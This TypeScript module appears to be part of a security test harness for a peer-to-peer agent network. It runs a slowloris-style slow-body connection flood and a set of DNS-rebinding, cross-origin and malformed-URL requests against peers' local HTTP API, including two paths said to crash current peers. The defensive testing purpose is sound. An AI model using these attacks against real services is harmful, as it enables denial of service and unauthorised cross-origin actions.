/**
 * Attacks on the honest peers' local HTTP API, the way a process on the machine or a web page in
 * the user's browser could reach it. Only 127.0.0.1 is ever contacted.
 */
import { request } from 'node:http'
import { connect, type Socket } from 'node:net'
import { sleep, Tally } from './rogue.ts'
import type { AttackContext } from './attacks.ts'

/**
 * `settings.slowConnections` connections to every honest API, each a POST /tasks announcing a
 * 1 MB body and sending it one byte per `slowByteEveryMs`. Counts how many the server still
 * holds at the end (a defended API drops them).
 */
export async function slowBodyHttp ({ targets, until, settings }: AttackContext): Promise<Tally> {
  const tally = new Tally()
  const sockets: Socket[] = []
  let connected = 0
  let closedByServer = 0
  let finishing = false
  const head = 'POST /tasks HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\nContent-Length: 1000000\r\n\r\n{'
  const open = async (port: number): Promise<void> => {
    tally.mark()
    await new Promise<void>(resolve => {
      const s = connect({ host: '127.0.0.1', port })
      s.on('connect', () => { connected++; s.write(head); resolve() })
      s.on('error', () => { if (!finishing) tally.fail(); resolve() })
      s.on('close', () => { if (!finishing) closedByServer++ })
      s.on('data', () => {}) // an early 4xx answer is read and ignored
      sockets.push(s)
    })
  }
  for (let i = 0; i < settings.slowConnections && Date.now() < until; i += 50) {
    await Promise.all(targets.flatMap(t => Array.from({ length: Math.min(50, settings.slowConnections - i) }, async () => { await open(t.apiPort) })))
  }
  while (Date.now() < until) {
    for (const s of sockets) if (!s.destroyed) s.write('1')
    await sleep(Math.min(settings.slowByteEveryMs, Math.max(0, until - Date.now())))
  }
  const held = sockets.filter(s => !s.destroyed).length
  finishing = true
  for (const s of sockets) s.destroy()
  Object.assign(tally.detail, { attempted: sockets.length, connected, closedByServer, heldAtEnd: held })
  return tally
}

/** `half`: only even (0) or odd (1) peers, so each request that may kill a peer is tried on live ones. */
interface PageRequest { name: string, method: string, path: string, headers: Record<string, string>, body?: string, half?: 0 | 1 }

const TASK_YAML = 'subtasks:\n  - id: calc\n    capability: { text: calculate, skills: [arithmetic] }\n    input: { expression: "6 * 7" }\n'

/** Harmless-looking requests first, then the two that kill today's peers. */
const PAGE_REQUESTS: PageRequest[] = [
  { name: 'rebinding GET /status (Host: evil.example)', method: 'GET', path: '/status', headers: { host: 'evil.example' } },
  { name: 'rebinding GET /agents (Host: evil.example:80)', method: 'GET', path: '/agents', headers: { host: 'evil.example:80' } },
  { name: 'cross-origin POST /tasks (text/plain)', method: 'POST', path: '/tasks', headers: { origin: 'http://evil.example', 'content-type': 'text/plain' }, body: TASK_YAML },
  { name: 'cross-origin POST /run (text/plain)', method: 'POST', path: '/run', headers: { origin: 'http://evil.example', 'content-type': 'text/plain' }, body: '{"text":"calculate","input":{"expression":"1+1"}}' },
  { name: 'cross-origin POST /feedback', method: 'POST', path: '/feedback', headers: { origin: 'http://evil.example', 'content-type': 'text/plain' }, body: '{"agent":"12D3KooWx/arithmetic","good":false}' },
  { name: 'GET /certificates/%E0%A4%A', method: 'GET', path: '/certificates/%E0%A4%A', headers: {}, half: 0 },
  { name: 'GET /tasks/%ZZ', method: 'GET', path: '/tasks/%ZZ', headers: {}, half: 1 }
]

/** Each request once to every honest API (or half of them); records what came back (a status, or the error). */
export async function maliciousPage ({ targets, until }: AttackContext): Promise<Tally> {
  const tally = new Tally()
  const outcomes: Record<string, Record<string, number>> = {}
  for (const r of PAGE_REQUESTS) {
    const seen: Record<string, number> = {}
    await Promise.all(targets.filter((_, i) => r.half === undefined || i % 2 === r.half).map(async t => {
      tally.mark()
      const result = await send(t.apiPort, r)
      if (!/^\d+$/.test(result)) tally.fail()
      seen[result] = (seen[result] ?? 0) + 1
    }))
    outcomes[r.name] = seen
    await sleep(500) // let a crash show before the next request
  }
  tally.detail.responses = outcomes
  // The attack window stays open: the honest users keep working (or not) until it ends.
  await sleep(Math.max(0, until - Date.now()))
  return tally
}

async function send (port: number, r: PageRequest): Promise<string> {
  return await new Promise(resolve => {
    const req = request({ host: '127.0.0.1', port, method: r.method, path: r.path, headers: r.headers, timeout: 5000 }, res => {
      res.resume()
      res.on('end', () => resolve(String(res.statusCode)))
    })
    req.on('timeout', () => { req.destroy(); resolve('timeout') })
    req.on('error', err => resolve((err as NodeJS.ErrnoException).code ?? err.message))
    req.end(r.body)
  })
}
